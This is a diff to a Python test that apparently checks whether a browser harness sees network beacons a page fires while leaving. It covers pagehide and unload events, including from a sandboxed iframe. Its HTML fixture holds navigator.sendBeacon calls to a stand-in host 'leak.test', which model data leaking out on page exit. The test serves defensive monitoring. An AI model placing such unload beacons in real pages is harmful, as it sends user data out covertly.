@@ -72,11 +72,11 @@ LEAVING = {
 @KINDS
 @pytest.mark.parametrize("way", LEAVING)
 async def test_what_a_page_sends_on_its_way_out_is_seen_however_it_goes(kind: Kind, way: str) -> None:
-    """A document that is sent away is unloaded some time after the next one is there, and on a busy machine not at all: it goes by itself."""
+    """A document that is sent away is unloaded after the next one is there, and on a busy machine not at all: it goes by itself."""
     body = f"""<!doctype html><script>addEventListener("pagehide",
         ()=>{{navigator.sendBeacon("http://leak.test/hide")}});{LEAVING[way]}</script>
-        <iframe sandbox="allow-scripts" srcdoc='<script>addEventListener("pagehide",
-            ()=>{{navigator.sendBeacon("http://leak.test/frame")}})</script>'></iframe>"""
+        <iframe sandbox="allow-scripts" srcdoc='<script>
+            addEventListener("pagehide",()=>{{navigator.sendBeacon("http://leak.test/frame")}})</script>'></iframe>"""
     wanted = {"each": {"hide", "unload", "frame"}, "stays": {"hide", "frame"}, "spins": {"hide"}}[way]
     async with open_browser_site({"/": html(body)}) as site, open_browser(browser_options(kind)) as browser:
         log = await probe(browser, site, answer_seconds=6.0)
